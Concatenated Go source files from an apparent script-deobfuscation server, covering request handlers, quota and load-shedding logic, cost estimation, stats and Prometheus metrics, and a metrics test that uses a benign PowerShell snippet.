func (s *Server) snapshotStats() *snapshotStatsBody {
	if s.snap == nil {
		return nil
	}
	s.snap.mu.Lock()
	defer s.snap.mu.Unlock()
	return &snapshotStatsBody{
		Path:             s.snap.path,
		Loaded:           s.snap.loaded,
		LoadError:        s.snap.loadErr,
		LoadParseEntries: s.snap.loadStats.ParseEntries,
		LoadEvalEntries:  s.snap.loadStats.EvalEntries,
		LoadParseWarmed:  s.snap.loadStats.ParseLoaded,
		LoadEvalWarmed:   s.snap.loadStats.EvalLoaded,
		Saves:            s.snap.saves,
		SaveErrors:       s.snap.saveErrors,
		LastSaveError:    s.snap.lastErr,
		LastSaveParse:    s.snap.lastSave.ParseEntries,
		LastSaveEval:     s.snap.lastSave.EvalEntries,
		LastSaveBytes:    s.snap.lastSave.Bytes,
	}
}
