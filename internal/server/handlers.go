package server

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/frontend"
	"github.com/invoke-deobfuscation/invokedeob/internal/limits"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// scriptRequest is one script on the wire (the whole body of
// /v1/deobfuscate, one element of /v1/batch).
type scriptRequest struct {
	// Name labels the script in responses and logs (sample ID, path...).
	Name string `json:"name,omitempty"`
	// Lang selects the language frontend ("powershell", "javascript",
	// or a registered alias). Empty falls back to the engine's
	// configured language, then to per-script auto-detection. Unknown
	// names answer 422 ErrBadLang.
	Lang string `json:"lang,omitempty"`
	// Script is the source text.
	Script string `json:"script"`
}

// batchRequest is the /v1/batch body.
type batchRequest struct {
	Scripts []scriptRequest `json:"scripts"`
}

// resultBody is the wire shape of one successful (or partial)
// deobfuscation. Stats and PassTrace marshal the engine structs
// directly, so the HTTP surface and the library report identical
// counters.
type resultBody struct {
	Name string `json:"name,omitempty"`
	// Lang is the canonical name of the frontend that handled the run
	// (the explicit request lang or the auto-detected guess).
	Lang   string     `json:"lang,omitempty"`
	Script string     `json:"script"`
	Stats  core.Stats `json:"stats"`
	// PassTrace is the per-pass execution trace (runs, duration, bytes,
	// reverts, parse-/eval-cache outcomes).
	PassTrace []pipeline.PassStat `json:"pass_trace,omitempty"`
	// Layers holds the intermediate script after each fixpoint round;
	// included only when the request asked with ?layers=1.
	Layers []string `json:"layers,omitempty"`
}

// batchItemBody is one script's outcome inside a /v1/batch response.
type batchItemBody struct {
	Name   string `json:"name,omitempty"`
	Index  int    `json:"index"`
	Lang   string `json:"lang,omitempty"`
	Script string `json:"script,omitempty"`
	// Error carries the per-script failure, if any; a script can carry
	// both a partial Script and an Error (envelope violation mid-run).
	Error *errorInfo  `json:"error,omitempty"`
	Stats *core.Stats `json:"stats,omitempty"`
}

// batchResponse is the /v1/batch body. The HTTP status is 200 whenever
// the batch itself ran; per-script failures are reported per item,
// mirroring DeobfuscateBatch's contract that one hostile script must
// not fail its siblings.
type batchResponse struct {
	Results []batchItemBody `json:"results"`
}

// toResultBody converts an engine result.
func toResultBody(name string, res *core.Result, withLayers bool) *resultBody {
	if res == nil {
		return nil
	}
	body := &resultBody{
		Name:      name,
		Lang:      res.Lang,
		Script:    res.Script,
		Stats:     res.Stats,
		PassTrace: res.PassTrace,
	}
	if withLayers {
		body.Layers = res.Layers
	}
	return body
}

// langLabel resolves the per-language counter key for one run: the
// engine's canonical resolution when a result exists, the (normalized)
// requested name when the run failed before resolving, "unknown" when
// nothing was requested either.
func langLabel(res *core.Result, requested string) string {
	if res != nil && res.Lang != "" {
		return res.Lang
	}
	if requested != "" {
		return frontend.Normalize(requested)
	}
	return "unknown"
}

// wantLayers reports whether the request opted into layer output.
func wantLayers(r *http.Request) bool {
	switch r.URL.Query().Get("layers") {
	case "1", "true", "yes":
		return true
	}
	return false
}

// admit performs admission control and in-flight registration for one
// work-bearing request. On success the caller owns release (MUST call
// it exactly once, after engine work ends). On failure the response
// has been written.
func (s *Server) admitRequest(w http.ResponseWriter) (release func(), ok bool) {
	if !s.begin() {
		s.stats.reject(rejectDraining)
		writeRetryAfter(w, http.StatusServiceUnavailable, nameDraining,
			"server is draining; retry against a healthy replica", 1)
		return nil, false
	}
	select {
	case s.admit <- struct{}{}:
	default:
		s.end()
		s.stats.reject(rejectSaturated)
		writeRetryAfter(w, http.StatusTooManyRequests, nameSaturated,
			fmt.Sprintf("worker pool and queue full (%d executing + %d queued); back off",
				s.cfg.Workers, s.cfg.QueueDepth), 1)
		return nil, false
	}
	return func() {
		<-s.admit
		s.end()
	}, true
}

// checkQuota charges the request against its tenant's token bucket
// (keyed by APIKeyHeader; unkeyed traffic shares the anonymous
// bucket). Quota exhaustion answers 429 ErrQuota with a Retry-After
// computed from the bucket's actual refill time, before admission and
// before the body is read, so a quota-busting flood costs the server
// one map lookup per request. A nil limiter (quotas disabled) always
// passes.
func (s *Server) checkQuota(w http.ResponseWriter, r *http.Request) bool {
	if s.quota == nil {
		return true
	}
	key := r.Header.Get(APIKeyHeader)
	if key == "" {
		key = anonKey
	}
	dec := s.quota.Allow(key)
	if dec.OK {
		return true
	}
	s.stats.reject(rejectQuota)
	writeRetryAfter(w, limits.HTTPStatus(limits.ErrQuota), "ErrQuota",
		fmt.Sprintf("per-tenant quota exceeded (%.3g req/s, burst %.3g); bucket refills in %s",
			s.cfg.QuotaRate, s.cfg.QuotaBurst, dec.RetryAfter.Round(time.Millisecond)),
		retryAfterSeconds(dec.RetryAfter))
	return false
}

// retryAfterSeconds rounds a refill duration up to the whole seconds
// the Retry-After header speaks, never below 1.
func retryAfterSeconds(d time.Duration) int {
	secs := int((d + time.Second - 1) / time.Second)
	if secs < 1 {
		secs = 1
	}
	return secs
}

// checkShed classifies the request's predicted cost and, when the
// admission window is above the shed high-water mark, refuses heavy
// work with 503 ErrShed so light traffic keeps flowing. Admitted
// requests are counted per class either way.
func (s *Server) checkShed(w http.ResponseWriter, cost float64) bool {
	class := s.classifyCost(cost)
	if class == classHeavy && s.underPressure() {
		s.stats.reject(rejectShedHeavy)
		s.stats.observeClass("heavy_shed")
		writeRetryAfter(w, limits.HTTPStatus(limits.ErrShed), "ErrShed",
			fmt.Sprintf("server over %d%% of admission capacity; shedding predicted-heavy work (cost %.0f >= %.0f) so light traffic keeps flowing",
				int(s.cfg.ShedHighWater*100), cost, s.cfg.HeavyCost), 2)
		return false
	}
	s.stats.observeClass(class)
	return true
}

// acquireSlot blocks until a worker slot frees or the request deadline
// expires. On deadline it writes the taxonomy error and reports false;
// the 504 carries a Retry-After because the correct client move — like
// the 429/503 refusals — is to back off and retry, ideally against a
// less-loaded replica.
func (s *Server) acquireSlot(ctx context.Context, w http.ResponseWriter) (release func(), ok bool) {
	select {
	case s.slots <- struct{}{}:
		return func() { <-s.slots }, true
	case <-ctx.Done():
		err := limits.FromContext(ctx.Err())
		status, name := classify(err)
		s.stats.observeError(name)
		writeRetryAfter(w, status, name, "request deadline expired while queued for a worker", 1)
		return nil, false
	}
}

// decodeBody decodes a JSON request body under the body-size limit,
// mapping oversize to the ErrInputBudget taxonomy member.
func (s *Server) decodeBody(w http.ResponseWriter, r *http.Request, v any) bool {
	r.Body = http.MaxBytesReader(w, r.Body, s.cfg.MaxBodyBytes)
	dec := json.NewDecoder(r.Body)
	dec.DisallowUnknownFields()
	if err := dec.Decode(v); err != nil {
		var tooBig *http.MaxBytesError
		if errors.As(err, &tooBig) {
			s.stats.observeError("ErrInputBudget")
			writeError(w, limits.HTTPStatus(limits.ErrInputBudget), "ErrInputBudget",
				fmt.Sprintf("request body exceeds %d bytes", s.cfg.MaxBodyBytes), nil)
			return false
		}
		writeError(w, http.StatusBadRequest, nameBadRequest,
			"malformed request body: "+err.Error(), nil)
		return false
	}
	return true
}

// checkScript enforces the per-script size limit and non-emptiness.
func (s *Server) checkScript(w http.ResponseWriter, label, script string) bool {
	if script == "" {
		writeError(w, http.StatusBadRequest, nameBadRequest,
			label+": empty script", nil)
		return false
	}
	if len(script) > s.cfg.MaxScriptBytes {
		s.stats.observeError("ErrInputBudget")
		writeError(w, limits.HTTPStatus(limits.ErrInputBudget), "ErrInputBudget",
			fmt.Sprintf("%s: script of %d bytes exceeds the %d-byte limit",
				label, len(script), s.cfg.MaxScriptBytes), nil)
		return false
	}
	return true
}

// requirePost gates the work endpoints on the POST method.
func requirePost(w http.ResponseWriter, r *http.Request) bool {
	if r.Method != http.MethodPost {
		w.Header().Set("Allow", http.MethodPost)
		writeError(w, http.StatusMethodNotAllowed, nameMethodNotAllowed,
			r.Method+" not allowed; POST a JSON body", nil)
		return false
	}
	return true
}

// handleDeobfuscate serves POST /v1/deobfuscate: one script in, the
// recovered script plus stats and pass trace out.
func (s *Server) handleDeobfuscate(w http.ResponseWriter, r *http.Request) {
	if !requirePost(w, r) {
		return
	}
	// Tenant quota before admission: a quota-busting flood is answered
	// from the token bucket alone, without consuming admission tokens.
	if !s.checkQuota(w, r) {
		return
	}
	// Admission before body read: a saturated server sheds load without
	// paying to parse what it cannot serve.
	release, ok := s.admitRequest(w)
	if !ok {
		return
	}
	defer release()
	s.stats.request(endpointDeobfuscate)
	defer s.stats.requestDone()
	var req scriptRequest
	if !s.decodeBody(w, r, &req) {
		return
	}
	if !s.checkScript(w, "script", req.Script) {
		return
	}
	// Cost-aware degradation: under pressure, predicted-heavy scripts
	// are refused here — after size checks, before any engine work.
	if !s.checkShed(w, costEstimate(req.Script)) {
		return
	}
	ctx, cancel, ok := s.requestContext(r)
	if !ok {
		writeError(w, http.StatusBadRequest, nameBadRequest,
			"invalid "+TimeoutHeader+" header: want a positive Go duration like 500ms", nil)
		return
	}
	defer cancel()
	releaseSlot, ok := s.acquireSlot(ctx, w)
	if !ok {
		return
	}
	res, err := s.runSingle(ctx, req.Lang, req.Script)
	releaseSlot()
	s.stats.observeLang(langLabel(res, req.Lang))
	if res != nil {
		s.stats.observeRun(res)
	}
	if err != nil {
		status, name := classify(err)
		s.stats.observeError(name)
		writeError(w, status, name, err.Error(), toResultBody(req.Name, res, wantLayers(r)))
		return
	}
	s.stats.complete(endpointDeobfuscate)
	writeJSON(w, http.StatusOK, toResultBody(req.Name, res, wantLayers(r)))
}

// handleBatch serves POST /v1/batch with DeobfuscateBatch semantics:
// per-script envelopes, input-order results, per-item errors. The batch
// holds one admission token and one worker slot; its internal
// parallelism is Engine.Jobs.
func (s *Server) handleBatch(w http.ResponseWriter, r *http.Request) {
	if !requirePost(w, r) {
		return
	}
	if !s.checkQuota(w, r) {
		return
	}
	release, ok := s.admitRequest(w)
	if !ok {
		return
	}
	defer release()
	s.stats.request(endpointBatch)
	defer s.stats.requestDone()
	var req batchRequest
	if !s.decodeBody(w, r, &req) {
		return
	}
	if len(req.Scripts) == 0 {
		writeError(w, http.StatusBadRequest, nameBadRequest, "empty batch", nil)
		return
	}
	if len(req.Scripts) > s.cfg.MaxBatchScripts {
		s.stats.observeError("ErrInputBudget")
		writeError(w, limits.HTTPStatus(limits.ErrInputBudget), "ErrInputBudget",
			fmt.Sprintf("batch of %d scripts exceeds the %d-script limit",
				len(req.Scripts), s.cfg.MaxBatchScripts), nil)
		return
	}
	inputs := make([]core.BatchInput, len(req.Scripts))
	batchCost := 0.0
	for i, sc := range req.Scripts {
		label := fmt.Sprintf("scripts[%d]", i)
		if !s.checkScript(w, label, sc.Script) {
			return
		}
		batchCost += costEstimate(sc.Script)
		inputs[i] = core.BatchInput{Name: sc.Name, Lang: sc.Lang, Script: sc.Script}
	}
	// A batch sheds as a unit on its summed cost: it occupies one
	// admission token and one worker slot regardless of width, so its
	// pressure contribution is the whole batch's work.
	if !s.checkShed(w, batchCost) {
		return
	}
	ctx, cancel, ok := s.requestContext(r)
	if !ok {
		writeError(w, http.StatusBadRequest, nameBadRequest,
			"invalid "+TimeoutHeader+" header: want a positive Go duration like 500ms", nil)
		return
	}
	defer cancel()
	releaseSlot, ok := s.acquireSlot(ctx, w)
	if !ok {
		return
	}
	results := s.runBatch(ctx, inputs)
	releaseSlot()
	resp := batchResponse{Results: make([]batchItemBody, len(results))}
	for i, br := range results {
		item := batchItemBody{Name: br.Name, Index: br.Index}
		s.stats.observeLang(langLabel(br.Result, req.Scripts[br.Index].Lang))
		if br.Result != nil {
			s.stats.observeRun(br.Result)
			item.Lang = br.Result.Lang
			item.Script = br.Result.Script
			stats := br.Result.Stats
			item.Stats = &stats
		}
		if br.Err != nil {
			status, name := classify(br.Err)
			s.stats.observeError(name)
			item.Error = &errorInfo{Name: name, Message: br.Err.Error(), Status: status}
		}
		resp.Results[i] = item
	}
	s.stats.complete(endpointBatch)
	writeJSON(w, http.StatusOK, resp)
}
