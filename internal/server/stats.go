package server

import (
	"net/http"
	"strconv"
	"sync"
	"time"

	"github.com/invoke-deobfuscation/invokedeob/internal/core"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
)

// Endpoint and rejection labels for the counters.
const (
	endpointDeobfuscate = "deobfuscate"
	endpointBatch       = "batch"

	rejectSaturated = "saturated"
	rejectDraining  = "draining"
	rejectQuota     = "quota"
	rejectShedHeavy = "shed-heavy"
)

// serverStats aggregates per-request engine outcomes across the
// server's lifetime. One mutex is plenty: the critical sections are a
// few integer adds, dwarfed by the engine work between them.
type serverStats struct {
	mu        sync.Mutex
	start     time.Time
	requests  map[string]int64
	completed map[string]int64
	rejected  map[string]int64
	errors    map[string]int64
	// statuses counts every response by HTTP status code (keyed by its
	// decimal string for direct JSON use), fed by the countStatuses
	// middleware: the scrape surface for shed/429/503/504 rates.
	statuses map[string]int64
	// classes counts cost classifications of admitted work ("light",
	// "heavy") plus "heavy_shed" for heavy requests refused under
	// pressure, so operators can see the degradation order acting.
	classes map[string]int64
	// langs counts engine runs by resolved language frontend (batch
	// items included), so mixed-language traffic is attributable.
	langs    map[string]int64
	inFlight int64
	// agg sums every run's Stats (batch items included), so statsz
	// exposes fleet-level pieces/layers/cache counters, not just the
	// last request's.
	agg core.Stats
	// passes folds every run's PassTrace by pass name, preserving
	// first-seen order like the engine's own Trace.
	passOrder []string
	passes    map[string]*pipeline.PassStat
	// passLat holds per-pass latency histograms (one observation per
	// run and pass: that run's cumulative duration in the pass), the
	// scrape surface behind /metrics' *_bucket series.
	passLat map[string]*latencyHist
}

func newServerStats() *serverStats {
	return &serverStats{
		start:     time.Now(),
		requests:  make(map[string]int64),
		completed: make(map[string]int64),
		rejected:  make(map[string]int64),
		errors:    make(map[string]int64),
		statuses:  make(map[string]int64),
		classes:   make(map[string]int64),
		langs:     make(map[string]int64),
		passes:    make(map[string]*pipeline.PassStat),
		passLat:   make(map[string]*latencyHist),
	}
}

func (st *serverStats) request(endpoint string) {
	st.mu.Lock()
	st.requests[endpoint]++
	st.inFlight++
	st.mu.Unlock()
}

func (st *serverStats) complete(endpoint string) {
	st.mu.Lock()
	st.completed[endpoint]++
	st.mu.Unlock()
}

func (st *serverStats) reject(reason string) {
	st.mu.Lock()
	st.rejected[reason]++
	st.mu.Unlock()
}

func (st *serverStats) observeError(name string) {
	st.mu.Lock()
	st.errors[name]++
	st.mu.Unlock()
}

func (st *serverStats) observeClass(class string) {
	st.mu.Lock()
	st.classes[class]++
	st.mu.Unlock()
}

func (st *serverStats) observeLang(lang string) {
	st.mu.Lock()
	st.langs[lang]++
	st.mu.Unlock()
}

// statusWriter records the status code a handler wrote (200 when the
// handler never called WriteHeader explicitly).
type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(status int) {
	if w.status == 0 {
		w.status = status
	}
	w.ResponseWriter.WriteHeader(status)
}

func (w *statusWriter) Write(b []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	return w.ResponseWriter.Write(b)
}

// countStatuses wraps next so every response increments the per-status
// counter, regardless of which rejection or error path produced it.
func (st *serverStats) countStatuses(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sw := &statusWriter{ResponseWriter: w}
		next.ServeHTTP(sw, r)
		if sw.status == 0 {
			sw.status = http.StatusOK
		}
		st.mu.Lock()
		st.statuses[strconv.Itoa(sw.status)]++
		st.mu.Unlock()
	})
}

// requestDone decrements the in-flight gauge; deferred by handlers
// alongside admission release.
func (st *serverStats) requestDone() {
	st.mu.Lock()
	st.inFlight--
	st.mu.Unlock()
}

// observeRun folds one run's Stats and PassTrace into the aggregates.
func (st *serverStats) observeRun(res *core.Result) {
	st.mu.Lock()
	defer st.mu.Unlock()
	a, s := &st.agg, res.Stats
	a.TokensNormalized += s.TokensNormalized
	a.PiecesAttempted += s.PiecesAttempted
	a.PiecesRecovered += s.PiecesRecovered
	a.VariablesTraced += s.VariablesTraced
	a.VariablesInlined += s.VariablesInlined
	a.LayersUnwrapped += s.LayersUnwrapped
	a.IdentifiersRenamed += s.IdentifiersRenamed
	a.Iterations += s.Iterations
	a.Duration += s.Duration
	a.PiecesTimedOut += s.PiecesTimedOut
	a.PiecesPanicked += s.PiecesPanicked
	a.PiecesOverBudget += s.PiecesOverBudget
	a.TimedOut = a.TimedOut || s.TimedOut
	a.EvalCacheHits += s.EvalCacheHits
	a.EvalCacheMisses += s.EvalCacheMisses
	a.EvalCacheSkips += s.EvalCacheSkips
	a.PiecesParallel += s.PiecesParallel
	a.SplicesApplied += s.SplicesApplied
	a.SpliceFallbacks += s.SpliceFallbacks
	for _, p := range res.PassTrace {
		h, ok := st.passLat[p.Pass]
		if !ok {
			h = newLatencyHist()
			st.passLat[p.Pass] = h
		}
		h.observe(p.Duration.Seconds())
		agg, ok := st.passes[p.Pass]
		if !ok {
			cp := p
			cp.BytesIn, cp.BytesOut = 0, 0 // sizes are per-run, meaningless summed
			st.passes[p.Pass] = &cp
			st.passOrder = append(st.passOrder, p.Pass)
			continue
		}
		agg.Runs += p.Runs
		agg.Duration += p.Duration
		agg.Reverts += p.Reverts
		agg.CacheHits += p.CacheHits
		agg.CacheMisses += p.CacheMisses
		agg.EvalHits += p.EvalHits
		agg.EvalMisses += p.EvalMisses
		agg.EvalSkips += p.EvalSkips
	}
}

// cacheStatsBody is the wire shape of one cache's counters.
type cacheStatsBody struct {
	Hits      int64   `json:"hits"`
	Misses    int64   `json:"misses"`
	Skips     int64   `json:"skips,omitempty"`
	Evictions int64   `json:"evictions"`
	Entries   int     `json:"entries"`
	Bytes     int64   `json:"bytes"`
	HitRate   float64 `json:"hit_rate"`
	// Shards is the lock-stripe count; ShardOccupancy the per-shard
	// entry counts in shard order (skew here means a hot hash range).
	Shards         int   `json:"shards"`
	ShardOccupancy []int `json:"shard_occupancy"`
	// CoalescedWaits counts requests that blocked on another request's
	// identical in-flight computation instead of duplicating it.
	CoalescedWaits int64 `json:"coalesced_waits"`
	// Warmed / WarmHits are the warm-restart payoff: entries preloaded
	// from the snapshot, and hits served by them.
	Warmed   int64 `json:"warmed,omitempty"`
	WarmHits int64 `json:"warm_hits,omitempty"`
	// ByLang attributes the cache's traffic to language frontends
	// (entries are namespaced per frontend), so a mixed-language fleet
	// can see each frontend's amortization payoff separately.
	ByLang map[string]langCacheStatsBody `json:"by_lang,omitempty"`
}

// langCacheStatsBody is one frontend's slice of a cache's traffic.
type langCacheStatsBody struct {
	Hits    int64   `json:"hits"`
	Misses  int64   `json:"misses"`
	Skips   int64   `json:"skips,omitempty"`
	HitRate float64 `json:"hit_rate"`
}

// statszBody is the GET /statsz response.
type statszBody struct {
	UptimeSeconds float64          `json:"uptime_seconds"`
	Draining      bool             `json:"draining"`
	InFlight      int64            `json:"in_flight"`
	Workers       int              `json:"workers"`
	QueueDepth    int              `json:"queue_depth"`
	Requests      map[string]int64 `json:"requests"`
	Completed     map[string]int64 `json:"completed"`
	Rejected      map[string]int64 `json:"rejected"`
	Errors        map[string]int64 `json:"errors"`
	// StatusCounts counts every response by HTTP status code — the
	// scrape surface the load harness uses for shed/429/503/504 rates.
	StatusCounts map[string]int64 `json:"status_counts"`
	// Classes counts admitted work by predicted cost class ("light",
	// "heavy") plus "heavy_shed" refusals under pressure.
	Classes map[string]int64 `json:"classes"`
	// Langs counts engine runs by resolved language frontend (batch
	// items included).
	Langs map[string]int64 `json:"langs"`
	// Quota reports the per-tenant limiter, when enabled.
	Quota *quotaStatsBody `json:"quota,omitempty"`
	// Stats is the engine work summed over every run the server
	// performed (same struct as the library's per-run Stats).
	Stats core.Stats `json:"stats"`
	// PassTrace is the per-pass aggregate across all runs (BytesIn/Out
	// zeroed: per-run sizes do not sum meaningfully).
	PassTrace []pipeline.PassStat `json:"pass_trace"`
	// ParseCache / EvalCache are the shared amortization pools — the
	// hit rates here are the serving payoff of sharing them across
	// request boundaries.
	ParseCache cacheStatsBody  `json:"parse_cache"`
	EvalCache  *cacheStatsBody `json:"eval_cache,omitempty"`
	// Snapshot reports the warm-restart lifecycle (load outcome, save
	// counters), when persistence is enabled.
	Snapshot *snapshotStatsBody `json:"snapshot,omitempty"`
}

// quotaStatsBody is the wire shape of the per-tenant limiter's state.
type quotaStatsBody struct {
	RatePerSec float64 `json:"rate_per_sec"`
	Burst      float64 `json:"burst"`
	Buckets    int     `json:"buckets"`
	MaxBuckets int     `json:"max_buckets"`
	Allowed    int64   `json:"allowed"`
	Rejected   int64   `json:"rejected"`
	Evictions  int64   `json:"evictions"`
}

// healthzBody is the GET /healthz response.
type healthzBody struct {
	Status   string `json:"status"`
	Draining bool   `json:"draining"`
	InFlight int64  `json:"in_flight"`
}

// handleHealthz reports liveness: 200 while serving, 503 once draining
// so load balancers stop routing here during shutdown.
func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	draining := s.Draining()
	s.stats.mu.Lock()
	inFlight := s.stats.inFlight
	s.stats.mu.Unlock()
	body := healthzBody{Status: "ok", Draining: draining, InFlight: inFlight}
	status := http.StatusOK
	if draining {
		body.Status = "draining"
		status = http.StatusServiceUnavailable
	}
	writeJSON(w, status, body)
}

// handleStatsz reports the aggregated serving counters as JSON.
func (s *Server) handleStatsz(w http.ResponseWriter, r *http.Request) {
	st := s.stats
	st.mu.Lock()
	body := statszBody{
		UptimeSeconds: time.Since(st.start).Seconds(),
		Draining:      s.Draining(),
		InFlight:      st.inFlight,
		Workers:       s.cfg.Workers,
		QueueDepth:    s.cfg.QueueDepth,
		Requests:      copyCounts(st.requests),
		Completed:     copyCounts(st.completed),
		Rejected:      copyCounts(st.rejected),
		Errors:        copyCounts(st.errors),
		StatusCounts:  copyCounts(st.statuses),
		Classes:       copyCounts(st.classes),
		Langs:         copyCounts(st.langs),
		Stats:         st.agg,
		PassTrace:     make([]pipeline.PassStat, 0, len(st.passOrder)),
	}
	for _, name := range st.passOrder {
		body.PassTrace = append(body.PassTrace, *st.passes[name])
	}
	st.mu.Unlock()
	if s.quota != nil {
		q := s.quota.Stats()
		body.Quota = &quotaStatsBody{
			RatePerSec: q.Rate, Burst: q.Burst,
			Buckets: q.Buckets, MaxBuckets: q.MaxBuckets,
			Allowed: q.Allowed, Rejected: q.Rejected, Evictions: q.Evictions,
		}
	}
	pc := s.cache.Stats()
	body.ParseCache = cacheStatsBody{
		Hits: pc.Hits, Misses: pc.Misses, Evictions: pc.Evictions,
		Entries: pc.Entries, Bytes: pc.Bytes, HitRate: pc.HitRate(),
		Shards: pc.Shards, ShardOccupancy: s.cache.ShardOccupancy(),
		CoalescedWaits: pc.CoalescedWaits,
		Warmed:         pc.Warmed, WarmHits: pc.WarmHits,
	}
	if byLang := s.cache.LangStats(); len(byLang) > 0 {
		body.ParseCache.ByLang = make(map[string]langCacheStatsBody, len(byLang))
		for lang, ls := range byLang {
			body.ParseCache.ByLang[lang] = langCacheStatsBody{
				Hits: ls.Hits, Misses: ls.Misses, HitRate: ls.HitRate(),
			}
		}
	}
	if s.evalCache != nil {
		ec := s.evalCache.Stats()
		body.EvalCache = &cacheStatsBody{
			Hits: ec.Hits, Misses: ec.Misses, Skips: ec.Skips,
			Evictions: ec.Evictions, Entries: ec.Entries, Bytes: ec.Bytes,
			HitRate: ec.HitRate(),
			Shards:  ec.Shards, ShardOccupancy: s.evalCache.ShardOccupancy(),
			CoalescedWaits: ec.CoalescedWaits,
			Warmed:         ec.Warmed, WarmHits: ec.WarmHits,
		}
		if byLang := s.evalCache.LangStats(); len(byLang) > 0 {
			body.EvalCache.ByLang = make(map[string]langCacheStatsBody, len(byLang))
			for lang, ls := range byLang {
				body.EvalCache.ByLang[lang] = langCacheStatsBody{
					Hits: ls.Hits, Misses: ls.Misses, Skips: ls.Skips,
					HitRate: ls.HitRate(),
				}
			}
		}
	}
	body.Snapshot = s.snapshotStats()
	writeJSON(w, http.StatusOK, body)
}

func copyCounts(m map[string]int64) map[string]int64 {
	out := make(map[string]int64, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}
