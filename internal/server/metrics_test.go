package server

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestMetricsExposition drives one script through the server and checks
// the /metrics scrape: content type, counter families fed by the run,
// per-pass histogram series, and splice/parallel counters.
func TestMetricsExposition(t *testing.T) {
	s := New(Config{Workers: 2})
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	resp, err := http.Post(ts.URL+"/v1/deobfuscate", "application/json",
		strings.NewReader(`{"script":"$a = 'he'+'llo'; Write-Output $a"}`))
	if err != nil {
		t.Fatalf("deobfuscate request: %v", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("deobfuscate status = %d", resp.StatusCode)
	}

	mresp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatalf("metrics request: %v", err)
	}
	defer mresp.Body.Close()
	if mresp.StatusCode != http.StatusOK {
		t.Fatalf("metrics status = %d", mresp.StatusCode)
	}
	if ct := mresp.Header.Get("Content-Type"); ct != metricsContentType {
		t.Fatalf("Content-Type = %q, want %q", ct, metricsContentType)
	}
	raw, err := io.ReadAll(mresp.Body)
	if err != nil {
		t.Fatalf("read metrics: %v", err)
	}
	body := string(raw)

	for _, want := range []string{
		"# TYPE invokedeob_requests_total counter",
		`invokedeob_requests_total{endpoint="deobfuscate"} 1`,
		"# TYPE invokedeob_pieces_recovered_total counter",
		"# TYPE invokedeob_splices_applied_total counter",
		"# TYPE invokedeob_pieces_parallel_total counter",
		"# TYPE invokedeob_splice_fallbacks_total counter",
		"# TYPE invokedeob_pass_duration_seconds histogram",
		`invokedeob_pass_duration_seconds_bucket{pass="`,
		`,le="+Inf"}`,
		"invokedeob_pass_duration_seconds_sum{",
		"invokedeob_pass_duration_seconds_count{",
		`invokedeob_cache_hits_total{cache="parse"}`,
		`invokedeob_cache_hits_total{cache="eval"}`,
		"# TYPE invokedeob_uptime_seconds gauge",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics body missing %q", want)
		}
	}

	// Every histogram family's cumulative buckets must be monotone and
	// end at the +Inf count; spot-check via the _count series presence
	// for each pass that ran.
	if !strings.Contains(body, `invokedeob_pass_runs_total{pass=`) {
		t.Errorf("per-pass run counters missing:\n%s", body[:min(len(body), 800)])
	}
}

// TestMetricsLabelEscaping pins the exposition-format escaping rules
// for label values: backslash, newline and double quote.
func TestMetricsLabelEscaping(t *testing.T) {
	in := "a\\b\"c\nd"
	want := `a\\b\"c\nd`
	if got := escapeLabelValue(in); got != want {
		t.Fatalf("escapeLabelValue(%q) = %q, want %q", in, got, want)
	}
}

// TestLatencyHistCumulative pins the histogram's Prometheus shape:
// buckets are cumulative and bounded by the +Inf total.
func TestLatencyHistCumulative(t *testing.T) {
	h := newLatencyHist()
	for _, v := range []float64{0.00005, 0.003, 0.003, 42} {
		h.observe(v)
	}
	if h.total != 4 {
		t.Fatalf("total = %d, want 4", h.total)
	}
	prev := int64(0)
	for i, c := range h.counts {
		if c < prev {
			t.Fatalf("bucket %d not cumulative: %d < %d", i, c, prev)
		}
		prev = c
	}
	if prev > h.total {
		t.Fatalf("largest bucket %d exceeds +Inf count %d", prev, h.total)
	}
	// The 42s observation lands only in +Inf.
	if h.counts[len(h.counts)-1] != 3 {
		t.Fatalf("last finite bucket = %d, want 3", h.counts[len(h.counts)-1])
	}
}
