package server

import (
	"github.com/invoke-deobfuscation/invokedeob/internal/score"
)

// Cost classes reported in /statsz and used by the shedding decision.
const (
	classLight = "light"
	classHeavy = "heavy"
)

// costEstimate predicts how expensive a script will be to deobfuscate,
// in "effective bytes", from a cheap single-pass scan — no tokenizing,
// no parsing, so it is safe to run on every admitted request before
// any engine work. The model mirrors what the corpus studies
// (PowerDrive, PowerPeeler) report about real malware batches: cost is
// dominated by size, amplified when the bytes are mostly encoded
// payload (every base64/compressed blob is a layer the engine must
// decode, re-parse and re-scan) and when entropy says the content is
// packed rather than plain source.
//
//	cost = len × (1 + 4·blobDensity) × (1 + max(0, entropy−4)/2)
//
// A 10 KiB plain script scores ≈10k; the same 10 KiB as a dense
// base64 payload (density ≈1, entropy ≈6) scores ≈100k. The absolute
// scale is arbitrary — Config.HeavyCost draws the light/heavy line.
func costEstimate(script string) float64 {
	n := float64(len(script))
	if n == 0 {
		return 0
	}
	blob := score.EncodedBlobDensity(script)
	entropyFactor := 1.0
	if h := score.Entropy(script); h > 4 {
		entropyFactor += (h - 4) / 2
	}
	return n * (1 + 4*blob) * entropyFactor
}

// classifyCost maps a cost onto the light/heavy class label.
func (s *Server) classifyCost(cost float64) string {
	if cost >= s.cfg.HeavyCost {
		return classHeavy
	}
	return classLight
}

// underPressure reports whether the admission window is at or above
// the shed high-water mark. The caller holds its own admission token,
// so the occupancy read includes the request being decided — a lone
// heavy request on an idle server never trips this.
func (s *Server) underPressure() bool {
	return len(s.admit) >= s.shedThreshold
}
