package score

import (
	"math"
	"strings"
	"testing"

